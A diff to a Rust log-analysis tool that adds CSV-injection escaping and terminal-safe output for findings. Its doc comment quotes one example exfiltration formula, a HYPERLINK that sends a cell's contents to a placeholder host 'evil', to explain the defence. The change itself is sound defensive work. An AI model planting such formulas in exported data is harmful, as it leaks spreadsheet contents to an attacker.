@@ -134,11 +134,27 @@ pub fn csv_row(f: &Finding) -> Vec<String> {
     ]
 }
 
+/// A CSV cell that a spreadsheet will not run as a formula (OWASP's rule
+/// against CSV injection): a cell starting with `=`, `+`, `-`, `@`, tab or
+/// carriage return gets a leading `'`, which spreadsheets show as text.
+///
+/// Why: log text reaches the cells (evidence, user names, URLs); a line
+/// such as `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise become
+/// a live formula in the analyst's spreadsheet. The cost is a visible `'`
+/// on such cells; no column orbwatch writes starts with these characters
+/// on its own (counts and scores are never negative).
+pub fn csv_safe_cell(cell: String) -> String {
+    match cell.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}"),
+        _ => cell,
+    }
+}
+
 fn write_csv(findings: &[&Finding], w: &mut dyn Write) -> io::Result<()> {
     let mut c = csv::Writer::from_writer(w);
     c.write_record(CSV_COLUMNS)?;
     for f in findings {
-        c.write_record(csv_row(f))?;
+        c.write_record(csv_row(f).into_iter().map(csv_safe_cell))?;
     }
     c.flush()?;
     Ok(())
@@ -150,6 +166,9 @@ fn short_time(t: &Option<jiff::Timestamp>) -> String {
 }
 
 fn write_table(findings: &[&Finding], w: &mut dyn Write) -> io::Result<()> {
+    // Evidence is log text: escape what could drive the terminal.
+    let mut safe = crate::terminal::TerminalSafe(w);
+    let w: &mut dyn Write = &mut safe;
     if findings.is_empty() {
         return writeln!(w, "No findings.");
     }
